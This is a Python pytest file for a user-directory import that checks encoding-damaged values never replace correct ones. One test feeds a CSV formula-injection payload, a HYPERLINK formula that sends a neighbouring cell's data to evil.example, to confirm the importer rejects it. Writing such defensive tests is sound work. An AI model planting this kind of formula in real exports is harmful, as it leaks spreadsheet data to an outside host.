"""Values whose letters came damaged never go over right ones."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from shared.model import ENTERPRISE_USER
from tests.conftest import Storage
from tests.support.office import Office, open_office

ATTRIBUTES = {
    "displayName": "Name",
    "userName": {"template": "{Name}@example.com", "transliterate": "german", "replace": [{"from": " ", "to": ""}]},
    'emails[type eq "work"].value': {"copy": "userName"},
    "title": "Boss",
    f"{ENTERPRISE_USER}:department": "Zone",
}


@pytest.fixture
def office(storage: Storage) -> Iterator[Office]:
    with open_office(storage.connection_string) as opened:
        status = {"column": "Status", "values": {"active": True, "gone": False}}
        opened.map(mode="full", status=status, attributes=ATTRIBUTES)
        opened.night("1,Ann Mei\u00dfner,active,,,Sales,K\u00f6chin", "2,Lee,active,,,Sales,Clerk")
        opened.time.forward(86_400)
        yield opened


def test_the_old_value_stays_until_a_right_one_comes(office: Office) -> None:
    before = office.directory["1"]
    damaged = "1,Ann Mei\u00c3\u0178ner,active,,,Retail,K\u00c3\u00b6chin"
    assert office.night(damaged, "2,Lee,active,,,Sales,Clerk", "3,M\u00c3\u00bcller,active") == [("1", True)]
    enterprise = {ENTERPRISE_USER: {"department": "Retail"}}
    assert office.directory == {"1": {**before, **enterprise}, "2": office.directory["2"]}
    assert (office.newest()["Movers"], office.newest()["Rejected"], office.workers()["3"]) == (1, 1, "rejected")
    office.time.forward(86_400)
    assert office.night(damaged, "2,Lee,active,,,Sales,Clerk") == []
    office.time.forward(86_400)
    office.night("1,Ann M\u00fcller,active,,,Retail,Koch", "2,Lee,active,,,Sales,Clerk")
    assert office.directory["1"] == {
        **before, **enterprise, "displayName": "Ann M\u00fcller", "userName": "AnnMueller@example.com",
        "emails": [{"type": "work", "value": "AnnMueller@example.com"}], "title": "Koch",
    }  # fmt: skip


def test_a_formula_with_a_question_mark_is_told_as_a_formula_and_not_as_a_lost_letter(office: Office) -> None:
    link = '"=HYPERLINK(""http://evil.example/?x=""&A2)"'
    office.night("1,Ann Mei\u00dfner,active", "2,Lee,active", f"3,{link},active")
    [row] = office.summary_of(str(office.newest()["Extract"]))["rejectedRows"]
    assert row["text"] == "Name looks like a formula; enter the name itself."
    assert office.summary_of(str(office.newest()["Extract"]))["notes"] == []
